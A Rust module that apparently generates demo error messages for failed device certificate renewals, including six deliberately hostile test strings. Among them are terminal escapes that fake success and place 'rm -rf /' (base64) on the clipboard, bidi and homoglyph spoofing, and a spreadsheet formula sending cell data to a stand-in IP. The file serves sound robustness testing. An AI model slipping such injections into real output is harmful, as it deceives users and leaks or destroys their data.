//! Error messages of failed renewals: real ones with variable parts drawn anew for each event, and a few hostile ones.
//!
//! Must not invent wording: the messages of devices, brokers and authorities come from
//! `assets/demo/renewal-errors.tsv`.

use std::borrow::Cow;
use std::sync::LazyLock;

use uuid::Uuid;

use super::prng::Prng;
use crate::domain::instant::{Instant, Span};

/// One message a line: category, text and source, separated by tabs.
const LIST: &str = include_str!("../../assets/demo/renewal-errors.tsv");

/// The messages, read once on first use.
static TEMPLATES: LazyLock<Vec<Template>> = LazyLock::new(|| LIST.lines().filter_map(Template::read).collect());

/// A message with `{key}` where a variable part stands.
struct Template {
    /// The cause, by which the incidents choose messages.
    category: &'static str,
    /// The text with real line breaks.
    message: String,
}

impl Template {
    /// `None` for comments, the header and lines without exactly three cells.
    fn read(line: &'static str) -> Option<Self> {
        let mut cells = line.split('\t');
        let (category, message, source) = (cells.next()?, cells.next()?, cells.next()?);
        if cells.next().is_some() || source.is_empty() || category == "category" {
            return None;
        }
        Some(Self { category, message: message.replace("\\n", "\n") })
    }
}

/// A message before its text is written out, so that a history of forty thousand stays small. It renders to the same
/// text for the same scene.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub struct Fault {
    /// Which message it is.
    template: Which,
    /// The seed of its variable parts.
    draw: u64,
}

/// A message of the list, by its index, or a hostile one.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum Which {
    Real(u16),
    Hostile(Hostile),
}

/// Texts that move the cursor, reverse the writing direction, hide, or are very large.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum Hostile {
    /// Terminal control sequences: they clear the screen, set the title and the clipboard.
    Escapes,
    /// Controls of the writing direction.
    Bidi,
    /// Invisible characters and letters that look alike.
    ZeroWidth,
    /// 200 lines, as of a stack trace.
    ManyLines,
    /// 100 kB in one line.
    Huge,
    /// A formula that a spreadsheet would execute.
    Formula,
}

impl Hostile {
    /// All of them, one for each hostile device.
    pub const ALL: [Self; 6] = [Self::Escapes, Self::Bidi, Self::ZeroWidth, Self::ManyLines, Self::Huge, Self::Formula];
}

/// The values of a message's variable parts.
pub struct Scene<'a> {
    /// The device's name.
    pub device: &'a str,
    /// The organization's id.
    pub org: Uuid,
    /// The event's time.
    pub at: Instant,
}

impl Fault {
    /// A message of one of these categories; of any category if none of them exists.
    pub fn of(categories: &[&str], rng: &mut Prng) -> Self {
        let fits: Vec<u16> =
            (0_u16..).zip(TEMPLATES.iter()).filter(|(_, t)| categories.contains(&t.category)).map(|(n, _)| n).collect();
        let any = u16::try_from(rng.below(TEMPLATES.len() as u64)).unwrap_or(0);
        Self { template: Which::Real(rng.pick(&fits).copied().unwrap_or(any)), draw: rng.next() }
    }

    /// The same message with its variable parts drawn anew.
    pub fn again(self, rng: &mut Prng) -> Self {
        Self { draw: rng.next(), ..self }
    }

    /// A hostile message. Only the device's name varies in it.
    pub const fn hostile(text: Hostile) -> Self {
        Self { template: Which::Hostile(text), draw: 0 }
    }

    /// The whole message. The same fault in the same scene always gives the same text.
    pub fn render(self, scene: &Scene<'_>) -> String {
        match self.template {
            Which::Hostile(text) => text.render(scene),
            Which::Real(n) => match TEMPLATES.get(usize::from(n)) {
                Some(t) => fill(&t.message, scene, &mut Prng::new(self.draw)),
                None => String::new(),
            },
        }
    }
}

/// Replaces every `{key}`. Unknown keys stay, because messages may contain braces.
fn fill(message: &str, scene: &Scene<'_>, rng: &mut Prng) -> String {
    let mut out = String::with_capacity(message.len() + 64);
    let mut rest = message;
    while let Some((before, after)) = rest.split_once('{') {
        out.push_str(before);
        match after.split_once('}').and_then(|(key, tail)| Some((value(key, scene, rng)?, tail))) {
            Some((text, tail)) => {
                out.push_str(&text);
                rest = tail;
            }
            None => {
                out.push('{');
                rest = after;
            }
        }
    }
    out.push_str(rest);
    out
}

/// The value of a key; `None` for an unknown key.
fn value<'a>(key: &str, scene: &Scene<'a>, rng: &mut Prng) -> Option<Cow<'a, str>> {
    const BASE32: &[u8] = b"0123456789abcdefghijklmnopqrstuv";
    const HEX: &[u8] = b"0123456789abcdef";
    const BASE64: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let at = scene.at;
    let past = |rng: &mut Prng| at.minus(rng.span(Span::hours(2), Span::days(25)));
    Some(Cow::Owned(match key {
        "name" => return Some(Cow::Borrowed(scene.device)),
        // Flight Control names devices by the hash of their public key.
        "fp" => letters(rng, BASE32, 52),
        "fp16" => letters(rng, BASE32, 16),
        "csr" => format!("{}-{}", scene.device, letters(rng, HEX, 8)),
        "order" => format!("{}-{}", letters(rng, b"bcdfghjklmnpqrstvwxz", 5), 100_000_000 + rng.below(4_000_000_000)),
        "token" => letters(rng, BASE64, 43),
        "uuid" => uuid(rng).hyphenated().to_string(),
        "org" => scene.org.hyphenated().to_string(),
        "n" => (2 + rng.below(88)).to_string(),
        "status" => choose(rng, &["401", "403", "409", "429"]),
        "5xx" => choose(rng, &["500", "502", "503", "503", "504"]),
        "host" => choose(rng, &["api-1.fleet.example", "api-2.fleet.example", "agent-api.fleet.example"]),
        "fqdn" => format!("{}.devices.example", scene.device),
        // Addresses reserved for documentation (RFC 5737).
        "ip" => format!("{}.{}", choose(rng, &["192.0.2", "198.51.100", "203.0.113"]), 1 + rng.below(254)),
        "now" => seconds(at).rfc3339(),
        "past" => seconds(past(rng)).rfc3339(),
        "soon" => at.plus(rng.span(Span::hours(20), Span::hours(80))).rfc3339(),
        "skewed" => seconds(at.minus(rng.span(Span::days(300), Span::days(2000)))).rfc3339(),
        "retry" => seconds(at.plus(Span::hours(1))).rfc3339().replace('T', " ").replace('Z', " UTC"),
        "go_past" => go_time(seconds(past(rng))),
        "go_now" => format!("{} m=+{}.{:03}", go_time(at), 60 + rng.below(900_000), rng.below(1000)),
        _ => return None,
    }))
}

/// `n` random letters of an alphabet of ASCII bytes.
fn letters(rng: &mut Prng, alphabet: &[u8], n: usize) -> String {
    (0..n).filter_map(|_| rng.pick(alphabet).map(|b| char::from(*b))).collect()
}

/// One of the words; the empty text if there are none.
fn choose(rng: &mut Prng, words: &[&str]) -> String {
    rng.pick(words).copied().unwrap_or_default().to_owned()
}

/// A random (version 4) UUID.
pub fn uuid(rng: &mut Prng) -> Uuid {
    let bits = (u128::from(rng.next()) << 64) | u128::from(rng.next());
    uuid::Builder::from_random_bytes(bits.to_be_bytes()).into_uuid()
}

/// Truncates to the second, as certificates state times.
pub fn seconds(t: Instant) -> Instant {
    Instant::from_pg_micros(t.pg_micros() - t.pg_micros().rem_euclid(1_000_000))
}

/// A time in UTC as Go prints it.
fn go_time(t: Instant) -> String {
    t.rfc3339().replace('T', " ").replace('Z', " +0000 UTC")
}

impl Hostile {
    /// The text of a hostile message.
    fn render(self, scene: &Scene<'_>) -> String {
        let name = scene.device;
        match self {
            Self::Escapes => format!(
                "tpm broker said: \x1b[2J\x1b[H\x1b[32mrenewal of {name} succeeded\x1b[0m\x1b]0;all is well\x07\x1b]52;c;cm0gLXJmIC8=\x07\r\x1b[?1049l"
            ),
            Self::Bidi => {
                format!("CSR of \u{202e}10-bal\u{202c} refused: subject '\u{2066}{name}\u{2069}' is not allowed")
            }
            Self::ZeroWidth => {
                format!(
                    "no such device: '{name}\u{200b}' (known: '{name}'\u{feff}, 'lab\u{2011}01', 'l\u{430}b-01\u{200d}')"
                )
            }
            Self::ManyLines => {
                let mut text = format!("panic: runtime error: invalid memory address [recovered] on {name}\n");
                for n in 0..199 {
                    text.push_str(&format!("goroutine {n} [select]:\n"));
                }
                text
            }
            Self::Huge => {
                let line = format!("{name}: attestation blob ff00a1b2c3d4e5f6 ");
                line.repeat(100_000 / line.len() + 1)
            }
            Self::Formula => format!("=HYPERLINK(\"http://203.0.113.9/?x=\"&A1,\"{name}\")"),
        }
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;

    #[test]
    fn every_line_of_the_list_is_a_template_and_every_key_is_known() {
        let lines = LIST.lines().filter(|l| !l.starts_with('#')).count();
        assert_eq!(TEMPLATES.len(), lines - 1);
        let scene = Scene { device: "edge-0001", org: Uuid::nil(), at: Instant::from_pg_micros(840_000_000_123_456) };
        for t in TEMPLATES.iter() {
            let text = fill(&t.message, &scene, &mut Prng::new(1));
            assert!(!text.contains(['{', '}', '\\']) && !text.trim().is_empty(), "{text}");
        }
    }

    #[test]
    fn variable_parts_differ_and_the_rest_does_not() {
        let mut rng = Prng::new(5);
        let fault = Fault::of(&["outage"], &mut rng);
        let scene = Scene { device: "edge-0001", org: Uuid::nil(), at: Instant::from_pg_micros(0) };
        assert_eq!(fault.render(&scene), fault.render(&scene));
        let texts: std::collections::BTreeSet<_> = (0..20).map(|_| fault.again(&mut rng).render(&scene)).collect();
        assert!(texts.len() > 1);
    }

    #[test]
    fn unknown_keys_and_lone_braces_stay() {
        let scene = Scene { device: "d", org: Uuid::nil(), at: Instant::from_pg_micros(0) };
        assert_eq!(fill("a {name} {what} { b", &scene, &mut Prng::new(1)), "a d {what} { b");
        assert_eq!(go_time(scene.at), "2000-01-01 00:00:00 +0000 UTC");
    }
}
